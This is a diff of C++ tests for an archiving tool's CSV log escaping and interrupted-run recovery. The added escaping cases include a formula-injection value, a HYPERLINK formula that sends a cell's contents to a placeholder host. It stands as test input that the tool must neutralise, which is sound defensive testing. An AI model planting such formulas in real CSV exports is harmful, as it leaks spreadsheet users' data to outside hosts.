@@ -48,7 +48,16 @@ INSTANTIATE_TEST_SUITE_P(Log, CsvFields,
                                          FieldCase{"comma", "Tol, Jan", "\"Tol, Jan\""},
                                          FieldCase{"quote", "Het \"boek\"", "\"Het \"\"boek\"\"\""},
                                          FieldCase{"line_break", "a\nb", "\"a\nb\""},
-                                         FieldCase{"empty", "", ""}),
+                                         FieldCase{"empty", "", ""},
+                                         FieldCase{"hyperlink", "=HYPERLINK(\"http://x?y=\"&A1,\"klik\")",
+                                                   "\"'=HYPERLINK(\"\"http://x?y=\"\"&A1,\"\"klik\"\")\""},
+                                         FieldCase{"sum", "=1+1", "'=1+1"},
+                                         FieldCase{"plus", "+31 20", "'+31 20"},
+                                         FieldCase{"minus", "-2", "'-2"},
+                                         FieldCase{"at", "@SUM(A1)", "'@SUM(A1)"},
+                                         FieldCase{"tab", "\t=1", "'\t=1"},
+                                         FieldCase{"carriage_return", "\r=1", "\"'\r=1\""},
+                                         FieldCase{"inner_equals", "a=1", "a=1"}),
                          CaseName());
 
 std::string ReadAll(const std::string& path)
@@ -176,16 +185,8 @@ TEST(Batch, AKilledRunLeavesNoHalfBookAndTheRestartCopiesIt)
     ASSERT_GE(child, 0);
     if (child == 0) {
         // Slow enough to be killed in the middle of the book.
-        struct CSlow final : copyops::CCopyEngine
-        {
-            int ReadChunk(int in, char* buffer, std::size_t max, std::size_t& got) override
-            {
-                ::usleep(20000);
-                return CCopyEngine::ReadChunk(in, buffer, max, got);
-            }
-        };
         StationSetup slow = setup;
-        slow.makeEngine = [] { return std::make_unique<CSlow>(); };
+        slow.makePace = [] { return [](std::size_t) { ::usleep(20000); }; };
         CNameReservations names;
         std::atomic<bool> cancel{false};
         ArchiveDisc(dir / "cd1/", "cd1", slow, names, cancel, nullptr);
@@ -210,7 +211,7 @@ TEST(Batch, AKilledRunLeavesNoHalfBookAndTheRestartCopiesIt)
     std::set<std::string> left;
     for (const auto& entry : fs::directory_iterator(setup.outputDir))
         left.insert(entry.path().filename().string());
-    EXPECT_EQ((std::set<std::string>{events.rows[0].folder, kLogName}), left);
+    EXPECT_EQ((std::set<std::string>{events.rows[0].folder, events.rows[0].folder + ".sha256", kLogName}), left);
 }
 
 // A validator of the bag as RFC 8493 has it: what it finds wrong, "" when
